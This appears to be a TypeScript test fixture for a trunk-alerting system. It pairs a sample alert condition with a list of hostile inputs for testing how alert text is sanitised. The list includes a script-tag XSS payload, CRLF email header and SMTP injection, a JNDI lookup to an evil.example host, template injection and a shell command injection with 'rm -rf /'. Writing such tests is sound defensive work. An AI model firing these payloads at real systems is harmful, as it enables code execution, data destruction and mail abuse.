import type { Condition } from '../../src/alerts/incident';
import { START } from './policies';

/** A trunk that is held, as a condition. */
export function condition(more: Partial<Condition> = {}): Condition {
  return {
    alert: 'trunk-held',
    subject: { kind: 'trunk', name: 'carrier-a' },
    ...{ about: '', severity: 'warning', story: '', level: 0, for: 0, quiet: 0, calls: [] },
    why: '5 faults in a row',
    evidence: { cause: 'faults' },
    ...more,
  };
}

/** What a caller or a carrier may have put into a text. */
export const HOSTILE = [
  '<script>alert(1)</script>',
  '<!channel> <@U123> <https://evil.example|click>',
  '@channel @all @here',
  '*bold* _it_ ~no~ `code` ```',
  '[click](https://evil.example) ![x](https://evil.example/x.png)',
  'a\r\nBcc: evil@example.org\r\n\r\nbody',
  '\u202egnp.exe \u0007\u001b[31m',
  '"; rm -rf / #$(id)`id`',
  '{"a":1}\n{"b":2}',
  '',
  ' \t\n',
  '<at>all</at> @team @all:example.org',
  '`\n\n<!here>` `` @all',
  '\\`@all\\',
  '=?utf-8?q?=0D=0ABcc:_evil=40example.org?= %0d%0aBcc: evil@example.org',
  '.\r\n.\r\nMAIL FROM:<evil@example.org>\r\n\u2028\u2029\u0085x',
  '{{ .Labels.trunk }} {{ template "x" }} ${jndi:ldap://evil.example} $PATH',
  '\ud800 \udc00\ud800',
  'x'.repeat(100_000),
];

export const AT = START;
